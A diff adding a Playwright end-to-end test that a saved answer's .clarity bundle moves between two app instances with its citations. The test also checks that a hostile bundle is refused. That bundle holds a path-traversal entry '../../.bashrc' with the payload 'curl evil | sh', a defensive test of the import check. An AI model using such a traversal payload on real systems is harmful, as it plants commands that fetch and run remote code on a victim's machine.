@@ -8,6 +8,7 @@ import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Page } from '@playwright/test';
+import { strToU8, unzipSync, zipSync } from 'fflate';
 import { ChatPage, expect, startApp, stopApp, test, type RunningApp } from './fixtures';
 
 class LibraryPage {
@@ -126,5 +127,62 @@ test('two instances share a team library: saves, conflicts, deletions and partia
   } finally {
     await Promise.all(apps.map((app) => stopApp(app)));
     await rm(root, { recursive: true, force: true });
+  }
+});
+
+test('a .clarity bundle goes from one instance to another with its citations; a hostile one is refused', async ({ browser }, testInfo) => {
+  const apps: RunningApp[] = [];
+  try {
+    apps.push(await startApp(), await startApp());
+    const [pageA, pageB] = await Promise.all([browser.newContext({ acceptDownloads: true }).then((c) => c.newPage()), browser.newContext().then((c) => c.newPage())]);
+    const [chatA, chatB] = [new ChatPage(pageA), new ChatPage(pageB)];
+    await chatA.open(apps[0]!);
+    await chatB.open(apps[1]!);
+    await chatA.ask('Tanishq jewellery in Kerala');
+    await expect(chatA.lastAnswer()).toHaveAttribute('data-status', 'done');
+    const chipCount = await chatA.lastAnswer().getByTestId('citation-chip').count();
+    await chatA.lastAnswer().getByTestId('save-answer').click();
+    await expect(chatA.lastAnswer().getByRole('status')).toHaveText('Saved to the library');
+
+    const libA = new LibraryPage(pageA);
+    await libA.open();
+    await libA.openItem('Tanishq jewellery in Kerala');
+    const downloading = pageA.waitForEvent('download');
+    await libA.reader().getByTestId('library-export-bundle').click();
+    const download = await downloading;
+    expect(download.suggestedFilename()).toBe('tanishq-jewellery-in-kerala.clarity');
+    const bundlePath = testInfo.outputPath('answer.clarity');
+    await download.saveAs(bundlePath);
+
+    // Ravi imports it: the app says what would happen before writing anything.
+    const libB = new LibraryPage(pageB);
+    await libB.open();
+    await pageB.getByTestId('bundle-file').setInputFiles(bundlePath);
+    await expect(pageB.getByTestId('bundle-plan-item')).toHaveAttribute('data-status', 'new');
+    await expect(libB.item('Tanishq jewellery in Kerala')).toHaveCount(0);
+    await pageB.getByTestId('bundle-apply').click();
+    await expect(pageB.getByTestId('bundle-message')).toHaveText('Imported: 1 new, 0 replaced, 0 kept as conflict copies, 0 left as they were.');
+    await libB.openItem('Tanishq jewellery in Kerala');
+    await expect(libB.reader().getByTestId('citation-chip')).toHaveCount(chipCount);
+    await libB.reader().getByTestId('citation-chip').first().click();
+    await expect(pageB.getByTestId('citation-panel').getByTestId('panel-source')).not.toBeEmpty();
+    await expect(pageB.getByTestId('citation-panel').getByTestId('health-when cited')).toHaveText(/when cited: (healthy|degraded|down)/);
+
+    // The same bundle again: identical, nothing to do.
+    await pageB.getByTestId('bundle-file').setInputFiles(bundlePath);
+    await expect(pageB.getByTestId('bundle-plan-item')).toHaveAttribute('data-status', 'same');
+    await pageB.getByRole('button', { name: 'Cancel' }).click();
+
+    // A hostile bundle (a path climbing out of the folder) is refused, with why, and writes nothing.
+    const { readFile } = await import('node:fs/promises');
+    const files = unzipSync(new Uint8Array(await readFile(bundlePath)));
+    const hostile = Buffer.from(zipSync({ ...files, '../../.bashrc': strToU8('curl evil | sh') }));
+    await pageB.getByTestId('bundle-file').setInputFiles({ name: 'hostile.clarity', mimeType: 'application/zip', buffer: hostile });
+    await expect(pageB.getByTestId('bundle-message')).toHaveText('This bundle was refused and nothing was written: The bundle contains a file it should not: “../../.bashrc”.');
+    await expect(pageB.getByTestId('bundle-plan')).toHaveCount(0);
+    await expect(pageB.getByTestId('library-item')).toHaveCount(1);
+    await pageB.screenshot({ path: testInfo.outputPath('bundle-refused.png') });
+  } finally {
+    await Promise.all(apps.map((app) => stopApp(app)));
   }
 });
